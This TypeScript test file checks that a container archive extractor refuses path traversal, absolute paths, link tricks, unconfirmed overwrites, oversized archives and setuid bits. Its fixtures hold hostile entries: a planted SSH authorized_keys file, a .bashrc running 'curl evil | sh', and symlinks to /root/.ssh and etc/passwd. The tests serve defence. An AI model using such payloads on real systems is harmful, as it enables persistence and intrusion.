// A container's archive is the container's to make: what it may and may not write on this computer.
import * as assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Readable } from 'node:stream';
import * as tarStream from 'tar-stream';
import { extractContainerArchive } from '../../../../src/core/engine/operations/archiveExtract';

type Entry = tarStream.Headers & { body?: string };

/** A tar made entry by entry, as a hostile engine would send it. */
function tarOf(entries: Entry[]): Readable {
  const pack = tarStream.pack();
  for (const { body, ...header } of entries) {
    pack.entry({ mode: 0o644, ...header, ...(body !== undefined && { size: Buffer.byteLength(body) }) }, body ?? '');
  }
  pack.finalize();
  return pack as unknown as Readable;
}

function folder(): string {
  return mkdtempSync(path.join(os.tmpdir(), 'dh-extract-'));
}

describe('extractContainerArchive (Copy from Container trusts nothing in the archive)', () => {
  it('writes the requested folder with its files and subfolders', async () => {
    const dir = folder();
    const result = await extractContainerArchive(
      tarOf([{ name: 'out/', type: 'directory' }, { name: 'out/a.txt', body: 'a\n' }, { name: 'out/sub/', type: 'directory' }, { name: 'out/sub/b.txt', body: 'b\n' }]),
      dir,
      { rootName: 'out' },
    );
    assert.equal(readFileSync(path.join(dir, 'out/a.txt'), 'utf8'), 'a\n');
    assert.equal(readFileSync(path.join(dir, 'out/sub/b.txt'), 'utf8'), 'b\n');
    assert.deepEqual({ files: result.files, skipped: result.skipped }, { files: 2, skipped: [] });
  });

  it('refuses entries beside the requested name: a container cannot drop .bashrc or .ssh/authorized_keys into the folder', async () => {
    const dir = folder();
    await assert.rejects(
      extractContainerArchive(tarOf([{ name: 'out/a.txt', body: 'a' }, { name: '.ssh/authorized_keys', body: 'ssh-ed25519 AAAA evil' }, { name: '.bashrc', body: 'curl evil | sh' }]), dir, { rootName: 'out' }),
      /"\.ssh\/authorized_keys", which is not under "out"/,
    );
    assert.equal(existsSync(path.join(dir, '.ssh')), false);
    assert.equal(existsSync(path.join(dir, '.bashrc')), false);
  });

  it('refuses absolute names and .. anywhere in a name', async () => {
    for (const name of ['/tmp/dh-abs-escape', 'out/../../dh-escape', 'out/x/../../../dh-escape', '../out']) {
      const dir = folder();
      await assert.rejects(extractContainerArchive(tarOf([{ name, body: 'x' }]), dir, { rootName: 'out' }), /unsafe name|not under/, name);
      assert.equal(existsSync(path.join(path.dirname(dir), 'dh-escape')), false, name);
    }
    assert.equal(existsSync('/tmp/dh-abs-escape'), false);
  });

  it('skips symlinks and hard links and names them, so nothing is written through them', async () => {
    const dir = folder();
    const result = await extractContainerArchive(
      tarOf([
        { name: 'out/', type: 'directory' },
        { name: 'out/ssh', type: 'symlink', linkname: '/root/.ssh' },
        { name: 'out/ssh/authorized_keys', body: 'evil' },
      ]),
      dir,
      { rootName: 'out' },
    );
    assert.deepEqual(result.skipped, ['out/ssh (symlink → /root/.ssh)']);
    // What was meant to go through the link lands in a plain folder inside the chosen one.
    assert.equal(lstatSync(path.join(dir, 'out/ssh')).isDirectory(), true);
    assert.equal(readFileSync(path.join(dir, 'out/ssh/authorized_keys'), 'utf8'), 'evil');

    const other = folder();
    const links = await extractContainerArchive(
      tarOf([{ name: 'out/', type: 'directory' }, { name: 'out/passwd', type: 'link', linkname: 'etc/passwd' }, { name: 'out/up', type: 'symlink', linkname: '../..' }]),
      other,
      { rootName: 'out' },
    );
    assert.deepEqual(links.skipped, ['out/passwd (link → etc/passwd)', 'out/up (symlink → ../..)']);
    assert.equal(existsSync(path.join(other, 'out/passwd')), false);
  });

  it('never writes through a link that already is in the chosen folder', async () => {
    const dir = folder();
    const elsewhere = folder();
    symlinkSync(elsewhere, path.join(dir, 'out'));
    await assert.rejects(extractContainerArchive(tarOf([{ name: 'out/', type: 'directory' }, { name: 'out/x', body: 'x' }]), dir, { rootName: 'out' }), /exists and is not a folder/);
    await assert.rejects(extractContainerArchive(tarOf([{ name: 'out/x', body: 'x' }]), dir, { rootName: 'out' }), /is a link; nothing was written through it/);
    assert.equal(existsSync(path.join(elsewhere, 'x')), false);
  });

  it('replaces an existing file only when confirmed, asking once, and replaces a link itself rather than its target', async () => {
    const dir = folder();
    mkdirSync(path.join(dir, 'out'));
    writeFileSync(path.join(dir, 'out/a.txt'), 'mine');
    const target = path.join(folder(), 'precious');
    writeFileSync(target, 'precious');
    symlinkSync(target, path.join(dir, 'out/b.txt'));
    const archive = (): Readable => tarOf([{ name: 'out/', type: 'directory' }, { name: 'out/a.txt', body: 'theirs' }, { name: 'out/b.txt', body: 'theirs' }]);

    await assert.rejects(extractContainerArchive(archive(), dir, { rootName: 'out' }), /a\.txt already exists; nothing existing was replaced/);
    const asked: string[] = [];
    await assert.rejects(extractContainerArchive(archive(), dir, { rootName: 'out', confirmOverwrite: async (file) => (asked.push(file), false) }), /already exists/);
    assert.equal(readFileSync(path.join(dir, 'out/a.txt'), 'utf8'), 'mine');

    await extractContainerArchive(archive(), dir, { rootName: 'out', confirmOverwrite: async (file) => (asked.push(file), true) });
    assert.deepEqual(asked, [path.join(dir, 'out/a.txt'), path.join(dir, 'out/a.txt')], 'asked once per copy');
    assert.equal(readFileSync(path.join(dir, 'out/a.txt'), 'utf8'), 'theirs');
    assert.equal(lstatSync(path.join(dir, 'out/b.txt')).isSymbolicLink(), false);
    assert.equal(readFileSync(target, 'utf8'), 'precious', 'the link target is untouched');
  });

  it('caps total bytes and entries', async () => {
    const big = tarOf([{ name: 'out/', type: 'directory' }, { name: 'out/a', body: 'x'.repeat(600) }, { name: 'out/b', body: 'y'.repeat(600) }]);
    const dir = folder();
    await assert.rejects(extractContainerArchive(big, dir, { rootName: 'out', maxBytes: 1000 }), /larger than/);
    assert.equal(existsSync(path.join(dir, 'out/b')), false, 'the entry over the cap is not written');
    const many = tarOf(Array.from({ length: 20 }, (_, i) => ({ name: `out/f${i}`, body: '' })));
    await assert.rejects(extractContainerArchive(many, folder(), { rootName: 'out', maxEntries: 10 }), /more than 10 entries/);
  });

  it('writes files without setuid bits and readable by their owner', async () => {
    const dir = folder();
    await extractContainerArchive(tarOf([{ name: 'x', body: 'x', mode: 0o4777 }]), dir, { rootName: 'x' });
    const mode = lstatSync(path.join(dir, 'x')).mode;
    assert.equal(mode & 0o7000, 0, 'no setuid, setgid or sticky bit');
    assert.equal(mode & 0o600, 0o600);
  });
});
